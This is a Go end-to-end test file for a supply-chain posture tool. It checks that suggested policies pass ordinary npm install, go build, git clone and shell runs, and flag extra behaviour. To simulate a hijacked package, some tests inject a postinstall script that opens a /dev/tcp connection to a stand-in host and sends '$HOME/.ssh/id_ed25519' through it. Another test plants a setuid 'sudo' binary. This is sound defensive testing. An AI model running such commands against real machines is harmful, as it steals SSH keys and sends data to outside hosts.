package e2e

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/org/edamame-posture/pkg/event"
	"github.com/org/edamame-posture/pkg/intent"
	"github.com/org/edamame-posture/pkg/report"
)

// scene is a command of everyday work, as often as it is wanted anew.
type scene struct {
	name string
	// lines is how long the policy may be that the summary suggests.
	lines int
	// begin makes a new working directory and returns how to run the command
	// there. more, where it is not empty, is what a shell does besides.
	begin func(t *testing.T, more string) (options, []string)
	// stranger is an address that the command has nothing to do with.
	stranger string
}

// A first run without a policy suggests one. Whoever takes it as it stands must
// come to a pass, or nobody writes policies; and it must be worth having: what
// the command did not do before is undeclared and fails.
func TestTheSuggestedPolicyPassesTheSameCommandAndFailsOneThatDoesMore(t *testing.T) {
	for _, s := range []scene{installScene(t), buildScene(t), cloneScene(t), shellScene(t)} {
		t.Run(s.name, func(t *testing.T) {
			o, argv := s.begin(t, "")
			first := run(t, o, argv...)
			first.complete()
			if first.code != 0 {
				t.Fatalf("exit code %d\n%s\n%s", first.code, first.stdout, first.stderr)
			}
			data, err := report.Load(first.dir)
			if err != nil {
				t.Fatal(err)
			}
			full := string(intent.Suggest(first.observed))
			t.Logf("the policy of the summary:\n%s\nof all that was seen:\n%s", data.Policy, full)
			for name, policy := range map[string]string{"the policy of the summary": data.Policy, "the policy of all that was seen": full} {
				if strings.Contains(policy, "# no line") || policy == "" {
					t.Errorf("%s leaves something out:\n%s", name, policy)
				}
				w := held(t, s, policy, "")
				w.complete()
				v := w.verdict
				w.must(w.code == 0 && v.Verdict == "pass" && v.Score == 0 && len(v.Undeclared) == 0,
					"%s: exit code %d, %s, score %d, reasons %q, undeclared %+v\n%s", name, w.code, v.Verdict, v.Score, v.Reasons, v.Undeclared, policy)
				for verb, tightness := range map[string]int{"egress": v.Tightness.Egress, "credentials": v.Tightness.Credentials} {
					w.must(tightness == -1 || tightness >= 300, "%s: tightness of %s is %d", name, verb, tightness)
				}
			}
			if n := strings.Count(data.Policy, "\n"); n > s.lines {
				t.Errorf("the policy of the summary has %d lines, want %d at most", n, s.lines)
			}
			if n := strings.Count(full, "\n"); n > 30 {
				t.Errorf("the policy of all that was seen has %d lines", n)
			}

			connect := fmt.Sprintf("exec 3<>/dev/tcp/%s; echo hello >&3", strings.Replace(s.stranger, ":", "/", 1))
			w := held(t, s, data.Policy, connect)
			w.fails("connect", s.stranger)

			w = held(t, s, data.Policy, connect+`; cat "$HOME/.ssh/id_ed25519" >&3`)
			w.fails("connect", s.stranger)
			w.fails("credential", "ssh ")
			w.fails("chain", "ssh -> "+s.stranger)
		})
	}
}

// held runs a scene against a policy.
func held(t *testing.T, s scene, policy, more string) *watched {
	t.Helper()
	file := filepath.Join(t.TempDir(), "posture.yml")
	if err := os.WriteFile(file, []byte(policy), 0o644); err != nil {
		t.Fatal(err)
	}
	o, argv := s.begin(t, more)
	o.flags = append(o.flags, "--intent", file)
	return run(t, o, argv...)
}

// fails checks that a fact was undeclared, and that this failed the command.
func (w *watched) fails(verb, object string) {
	w.t.Helper()
	found := false
	for _, f := range w.verdict.Undeclared {
		found = found || f.Verb == verb && strings.HasPrefix(f.Object, object)
	}
	w.must(found, "%s %s is not among the undeclared: %+v", verb, object, w.verdict.Undeclared)
	w.must(w.code == 3 && w.verdict.Verdict == "fail", "exit code %d and %s, want 3 and fail", w.code, w.verdict.Verdict)
}

// home makes a home folder with settings of git and a key of ssh.
func home(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, ".ssh"), 0o700); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		".gitconfig":      "[user]\n\tname = t\n\temail = t@example.com\n",
		".ssh/id_ed25519": "no key\n",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// also makes a command do more afterwards, in a shell above it.
func also(more string, argv ...string) []string {
	if more == "" {
		return argv
	}
	return append([]string{"sh", "-c", `"$@" && exec bash -c "$0"`, more}, argv...)
}

// reachable listens on an address of this machine that is not loopback, so
// that traffic which looks as if it left the machine does not.
func reachable(t *testing.T) string {
	t.Helper()
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		n, ok := a.(*net.IPNet)
		if !ok || n.IP.To4() == nil || n.IP.IsLoopback() {
			continue
		}
		l, err := net.Listen("tcp4", net.JoinHostPort(n.IP.String(), "0"))
		if err != nil {
			continue
		}
		serve(t, l, http.NotFoundHandler())
		return l.Addr().String()
	}
	t.Skip("this machine has no address but loopback")
	return ""
}

func installScene(t *testing.T) scene {
	need(t, "npm", "node", "bash")
	config, err := exec.Command("npm", "config", "get", "userconfig").Output()
	if err != nil {
		t.Fatalf("npm config get userconfig: %v", err)
	}
	dir := home(t)
	return scene{name: "npm install of a package with an install script", lines: 8, stranger: reachable(t), begin: func(t *testing.T, more string) (options, []string) {
		in := t.TempDir()
		scripts := ""
		if more != "" {
			// What a package that was taken over would do.
			scripts = `"scripts": {"postinstall": "bash more.sh"}, `
			if err := os.WriteFile(filepath.Join(in, "more.sh"), []byte(more), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.WriteFile(filepath.Join(in, "package.json"), []byte(`{"name": "watched", "version": "1.0.0", `+scripts+`"dependencies": {"esbuild": "0.25.0"}}`), 0o644); err != nil {
			t.Fatal(err)
		}
		return options{in: in, env: []string{
			"HOME=" + dir, "npm_config_userconfig=" + strings.TrimSpace(string(config)), "npm_config_cache=" + t.TempDir(),
		}}, []string{"npm", "install", "--no-audit", "--no-fund"}
	}}
}

func buildScene(t *testing.T) scene {
	need(t, "go", "bash")
	settings, err := exec.Command("go", "env", "GOPROXY", "GOSUMDB", "GONOSUMDB").Output()
	if err != nil {
		t.Fatalf("go env: %v", err)
	}
	set := strings.Split(string(settings), "\n")
	dir := home(t)
	return scene{name: "go build of a module with a dependency", lines: 8, stranger: reachable(t), begin: func(t *testing.T, more string) (options, []string) {
		in := t.TempDir()
		for name, text := range map[string]string{
			"go.mod":  "module example.com/watched\n\ngo 1.26\n\nrequire golang.org/x/mod v0.42.0\n",
			"main.go": "package main\n\nimport \"golang.org/x/mod/semver\"\n\nfunc main() { println(semver.Major(\"v1.2.3\")) }\n",
		} {
			if err := os.WriteFile(filepath.Join(in, name), []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		return options{in: in, env: []string{
			"HOME=" + dir, "GOPROXY=" + set[0], "GOSUMDB=" + set[1], "GONOSUMDB=" + set[2], "CGO_ENABLED=0",
			"GOCACHE=" + t.TempDir(), "GOPATH=" + t.TempDir(), "GOMODCACHE=" + t.TempDir(), "GOFLAGS=-mod=mod -modcacherw", "GOTOOLCHAIN=local",
		}}, also(more, "go", "build", "-o", "watched", ".")
	}}
}

func cloneScene(t *testing.T) scene {
	need(t, "git", "ip", "bash")
	root := t.TempDir()
	repo := filepath.Join(root, "repo")
	for _, args := range [][]string{
		{"init", "-q", repo}, {"-C", repo, "config", "user.email", "t@example.com"}, {"-C", repo, "config", "user.name", "t"},
		{"-C", repo, "commit", "-q", "--allow-empty", "-m", "first"}, {"-C", repo, "update-server-info"},
	} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	ns, listen := netns(t)
	serve(t, listen("tcp4", "198.51.100.7:8080"), http.FileServer(http.Dir(root)))
	serve(t, listen("tcp4", "198.51.100.7:9090"), http.NotFoundHandler())
	dir := home(t)
	return scene{name: "git clone over HTTP", lines: 12, stranger: "198.51.100.7:9090", begin: func(t *testing.T, more string) (options, []string) {
		return options{env: []string{"HOME=" + dir}},
			append([]string{"ip", "netns", "exec", ns}, also(more, "git", "clone", "-q", "http://198.51.100.7:8080/repo/.git", "clone")...)
	}}
}

func shellScene(t *testing.T) scene {
	need(t, "ip", "bash")
	ns, listen := netns(t)
	serve(t, listen("tcp4", "198.51.100.7:8080"), http.NotFoundHandler())
	serve(t, listen("tcp4", "198.51.100.7:9090"), http.NotFoundHandler())
	dir := home(t)
	const work = `mkdir -p out && for i in 1 2 3 4 5 6 7; do echo $i > out/part-$i.txt; done && rm out/part-1.txt && exec bash -c 'exec 3<>/dev/tcp/198.51.100.7/8080; echo hello >&3'`
	return scene{name: "a shell that writes and connects", lines: 8, stranger: "198.51.100.7:9090", begin: func(t *testing.T, more string) (options, []string) {
		return options{env: []string{"HOME=" + dir}}, append([]string{"ip", "netns", "exec", ns}, also(more, "sh", "-c", work)...)
	}}
}

// A setuid program called sudo runs what it is told, as sudo does where no
// password is asked for.
func TestRootIsGrantedToWhatSudoRunsAndToNothingElse(t *testing.T) {
	need(t, "setpriv", "env", "id")
	dir := t.TempDir()
	open(t, dir)
	env, err := exec.LookPath("env")
	if err != nil {
		t.Fatal(err)
	}
	program, err := os.ReadFile(env)
	if err != nil {
		t.Fatal(err)
	}
	sudo := filepath.Join(dir, "sudo")
	if err := os.WriteFile(sudo, program, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(sudo, 0o755|os.ModeSetuid); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("setpriv", "--reuid=65534", "--clear-groups", "--", sudo, "id", "-u").Output(); err != nil || strings.TrimSpace(string(out)) != "0" {
		t.Skipf("a setuid program takes no effect here: %q, %v", out, err)
	}
	s := scene{begin: func(t *testing.T, what string) (options, []string) {
		return options{}, []string{"setpriv", "--reuid=65534", "--clear-groups", "--", sudo, what}
	}}
	o, argv := s.begin(t, "id")
	first := run(t, o, argv...)
	policy := string(intent.Suggest(first.observed))
	first.must(strings.Contains(policy, "root: [id]"), "the policy does not grant root to id:\n%s", policy)
	const root = "version: 1\nroot: [id]\n"
	w := held(t, s, root, "id")
	w.must(w.code == 0 && w.verdict.Verdict == "pass", "exit code %d and %s", w.code, w.verdict.Verdict)
	held(t, s, root, "whoami").fails("power", "root")
}

// What was read at the start counts, whatever the job makes of the file.
func TestAPolicyThatTheJobChangesIsTold(t *testing.T) {
	for _, tt := range []struct {
		name, script string
		changed      bool
	}{
		{"rewritten", `echo 'version: 1\negress: ["*:*"]' > posture.yml; echo > /opt/posture-test; rm /opt/posture-test`, true},
		{"gone", "rm posture.yml; echo > /opt/posture-test; rm /opt/posture-test", true},
		{"a pipe in its place", "rm posture.yml; mkfifo posture.yml; echo > /opt/posture-test; rm /opt/posture-test", true},
		{"a device in its place", "rm posture.yml; ln -s /dev/zero posture.yml; echo > /opt/posture-test; rm /opt/posture-test", true},
		{"touched", "touch posture.yml; echo > /opt/posture-test; rm /opt/posture-test", false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			in := t.TempDir()
			policy := filepath.Join(in, "posture.yml")
			if err := os.WriteFile(policy, []byte("version: 1\nuse: [local]\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			w := run(t, options{in: in, flags: []string{"--intent", policy}}, "/bin/sh", "-c", tt.script)
			told := 0
			for _, e := range w.events {
				if e.Kind == event.Note && strings.Contains(e.Detail.String(), "policy-changed") && e.Path.String() == policy {
					told++
				}
			}
			w.must(told == map[bool]int{true: 1}[tt.changed], "the change is told %d times", told)
			w.must(w.verdict.Verdict == "fail", "the verdict is %s: what was read at the start does not allow /opt", w.verdict.Verdict)
		})
	}
}
